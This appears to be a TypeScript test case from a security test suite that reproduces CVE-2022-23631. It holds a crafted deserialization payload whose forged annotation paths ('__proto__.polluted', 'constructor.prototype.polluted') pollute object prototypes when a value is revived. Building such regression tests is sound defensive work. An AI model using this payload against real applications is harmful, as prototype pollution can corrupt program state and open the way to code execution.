import type { Attempt } from '../../attempt.ts'

export default {
  technique: 'Forges annotations that write along a path when a value is revived.',
  source: 'CVE-2022-23631',
  guest: `
    forge((fields) => [...fields, 1, 7000, 18, 2, ['echo'], [{ a: 1 }], [[], { values: { '__proto__.polluted': ['Date'], 'constructor.prototype.polluted': ['undefined'] } }], 1, 7001, 18, 2, ['echo'], [{ a: 1 }], [[], { referentialEqualities: { a: ['__proto__.polluted'] } }], 1, 7002, 18, 2, ['echo'], [[1]], [[], { values: { 0: [['class', 'Ledger']], 1: ['map'], 2: [['typed-array', 'Float64Array']] } }]])
    host.ping()`,
} satisfies Attempt
